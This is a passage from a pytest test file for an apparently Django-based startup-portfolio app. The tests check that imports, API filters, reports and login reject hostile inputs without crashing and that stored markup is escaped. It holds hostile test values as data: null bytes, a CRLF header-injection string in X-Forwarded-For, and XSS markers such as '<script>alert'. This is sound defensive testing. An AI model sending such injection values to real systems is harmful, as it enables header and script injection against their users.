    assert {(2, "year"), (3, "quarter"), (4, "year"), (4, "quarter")} <= named
    rounds = [
        ["startup", "round_type", "closed_on", "amount", "participants"],
        [startup.name, "a", "9999-12-31", "1000", ""],
        [startup.name, "zz", "2023-02-30", str(Decimal("1e30")), ""],
        [startup.name, "a", "2023-01-01", "-1", "某人=1e30"],
    ]
    result = importing.run_import("rounds", to_xlsx(rounds), "r.xlsx", dry_run=False)
    named = {(error.row, error.column) for error in result.errors}
    expected = {(2, "closed_on"), (3, "round_type"), (3, "closed_on"), (3, "amount")}
    assert expected | {(4, "amount")} <= named
    assert not KpiReport.objects.exists()
    assert not FundingRound.objects.exists()


@pytest.mark.parametrize("value", ["1e30", "9" * 40, Decimal("1e30"), "-1e30", "1e-30"])
def test_to_yuan_refuses_huge_amounts_by_field(value):
    from django.core.exceptions import ValidationError

    from portfolio import services

    with pytest.raises(ValidationError) as refused:
        services.to_yuan(value, field="amount")
    assert "amount" in refused.value.message_dict


LIST_QUERIES = [
    "search=a%00b",
    "ordering=%00",
    "stage=%00",
    "tech_area=%00",
    "startup=%00",
    "fund=9999999999999999999999",
    "closed_on__gte=9999-99-99",
    "page=%00",
    "page_size=1e30",
    "as_of=%00",
    "name=" + "x" * 5000,
]


def test_list_filters_refuse_hostile_parameters(db, viewer):
    from portfolio.api.urls import router

    client = login(viewer)
    for prefix, _viewset, _basename in router.registry:
        for query in LIST_QUERIES:
            url = f"/api/v1/{prefix}/?{query}"
            response = client.get(url)
            assert response.status_code in (200, 400, 404), (url, response.status_code)
    for url in [
        "/api/v1/reports/pipeline/?as_of=%00",
        "/dashboard/?tech_area=%00&q=%00",
        "/api/v1/reports/impact/?year=%00&population=%00",
        "/dashboard/impact/?year=%00&population=%00",
    ]:
        assert client.get(url).status_code in (200, 400), url


REPORT_QUERIES = [
    *LIST_QUERIES,
    "population=%00",
    "population=" + "x" * 5000,
    "population=INCUBATOR",
    "fund=%00",
    "fund=-1",
    "fund=0",
    "fund=1.5",
    "cohort=1e30",
    "institution=99999999999999999999999",
    "tech_area=" + "x" * 5000,
    "as_of=9999-12-31",
    "as_of=0001-01-01",
]


@pytest.mark.parametrize("report", ["pipeline", "valley"])
def test_reports_refuse_hostile_parameters(db, viewer, report):
    factories.StartupFactory()
    client = login(viewer)
    for query in REPORT_QUERIES:
        for fmt in ("", "&format=csv"):
            url = f"/api/v1/reports/{report}/?{query}{fmt}"
            response = client.get(url)
            assert response.status_code in (200, 400, 404), (url, response.status_code)
            if response.status_code == 400 and "=" in query:
                name = query.split("=", 1)[0]
                if name in ("population", "fund", "cohort", "institution", "tech_area"):
                    assert name in response.json(), url


YEAR_QUERIES = [
    "",
    "year=",
    "year=%00",
    "year=2025%00",
    "year=1e30",
    "year=" + "9" * 5000,
    "year=-2025",
    "year=2025.0",
    "year=0x7e9",
    "year=" + SQL,
    "year=" + HTML,
    "year=２０２５",  # full-width digits: Python reads them as 2025
    "year=2025&year=1999",
    "year[]=2025",
]


@pytest.mark.parametrize("report", ["incubation", "transfer-funnel"])
def test_year_reports_refuse_hostile_years(db, viewer, report):
    """The yearly reports (the statistics return, the transfer funnel): a hostile ``year``
    is a 400 naming it, in JSON whatever the format asked, never a 500."""
    factories.KpiReportFactory(year=2025, quarter=1)
    client = login(viewer)
    for query in YEAR_QUERIES:
        for fmt in ("", "&format=csv", "&format=xlsx"):
            url = f"/api/v1/reports/{report}/?{query}{fmt}"
            response = client.get(url)
            assert response.status_code in (200, 400), (url, response.status_code)
            if response.status_code == 400:
                assert set(response.json()) == {"year"}, url


def test_the_impact_report_and_page_refuse_hostile_parameters(db, viewer, no_rate_limits):
    """``?year=`` (required) and ``?population=``: a 400 naming the parameter, never a 500,
    in JSON, CSV and XLSX; the page shows the form's error."""
    factories.StartupFactory()
    client = login(viewer)
    for query in [*YEAR_QUERIES, *(f"year=2025&{q}" for q in REPORT_QUERIES)]:
        for fmt in ("", "&format=csv", "&format=xlsx"):
            url = f"/api/v1/reports/impact/?{query}{fmt}"
            response = client.get(url)
            assert response.status_code in (200, 400), (url, response.status_code)
            if response.status_code == 400:
                assert response["Content-Type"].startswith("application/json"), url
                name = query.rsplit("&", 1)[-1].split("=", 1)[0]
                if name in ("year", "population"):
                    assert name in response.json(), url
        page = client.get(f"/dashboard/impact/?{query}")
        assert page.status_code in (200, 400), (query, page.status_code)
        if page.status_code == 400:
            assert 'class="error" role="alert"' in page.content.decode(), query


def test_html_in_names_is_shown_as_text(db, viewer, superuser):
    """Markup stored as a name (it is valid text) is escaped wherever it is shown."""
    from tests.support.factories import stage

    startup = factories.StartupFactory(name=HTML)
    # in the valley: on the overview's "stuck in the valley" table and the valley report
    factories.StartupFactory(name=HTML + "谷", stage=stage("prototype"), trl=5)
    fund = factories.FundFactory(name=HTML + "基金")
    pages = {
        "valley-api": (login(viewer), "/api/v1/reports/valley/?format=api"),
        # the statistics return names every incubatee (admitted 2021-03-01 by default)
        "incubation-api": (login(viewer), "/api/v1/reports/incubation/?year=2021&format=api"),
        "dashboard": (login(viewer), f"/dashboard/startups/{startup.pk}/"),
        "overview": (login(viewer), "/dashboard/"),
        "fund": (login(viewer), f"/dashboard/funds/{fund.pk}/"),
        "admin-list": (login(superuser), admin_url(Startup, "changelist")),
        "admin-change": (login(superuser), admin_url(Startup, "change", startup.pk)),
        "browsable-api": (login(viewer), f"/api/v1/startups/{startup.pk}/?format=api"),
    }
    for where, (client, url) in pages.items():
        response = client.get(url)
        assert response.status_code == 200, where
        body = response.content.decode()
        assert "<script>alert" not in body, where
        assert "<img src=x" not in body, where


FORWARDED = [
    "量" * 10_000,
    "abc\x00def",
    ",".join(["203.0.113.1"] * 5_000),
    "999.1.1.1",
    "[::1",
    "1.2.3.4:99999999",
    SQL,
    HTML,
    "203.0.113.9\r\nX-Injected: 1",
    "",
]


@pytest.mark.parametrize("forwarded", FORWARDED, ids=range(len(FORWARDED)))
def test_forwarded_for_garbage_never_breaks_login_or_the_api(db, forwarded, settings):
    """Behind a trusted proxy, whatever a client writes into X-Forwarded-For: the login
    answers (200 with the form's error), the API answers 401, nothing is a 500."""
    settings.TRUSTED_PROXIES = ["10.0.0.5"]
    client = Client(REMOTE_ADDR="10.0.0.5", HTTP_X_FORWARDED_FOR=forwarded)
    response = client.post("/accounts/login/", {"username": "nobody", "password": "x"})
    assert response.status_code == 200
    assert client.get("/api/v1/stages/").status_code == 401


@pytest.mark.parametrize("route", ["policy", "investees"])
def test_fund_policy_routes_refuse_hostile_parameters(db, viewer, route, settings):
    """The policy pack and the investee export (JSON and every export format) answer any
    query with 200, or a 400 naming ``as_of`` when that is what is wrong; never a 500."""
    from tests.support import policy_fund

    settings.REST_FRAMEWORK = {  # hundreds of exports in a minute: the throttle is not tested
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {"exports": "100000/minute", "token-burst": "100000/minute"},
    }

    fund = policy_fund.build().fund
    client = login(viewer)
    for query in [*REPORT_QUERIES, "as_of=2024-02-30", "as_of=" + "9" * 5000]:
        for fmt in ("", "&format=csv", "&format=xlsx", "&format=%00"):
            url = f"/api/v1/funds/{fund.pk}/{route}/?{query}{fmt}"
            response = client.get(url)
            assert response.status_code in (200, 400, 404), (url, response.status_code)
            if response.status_code == 400 and query.startswith("as_of=") and not fmt:
                assert "as_of" in response.json(), url
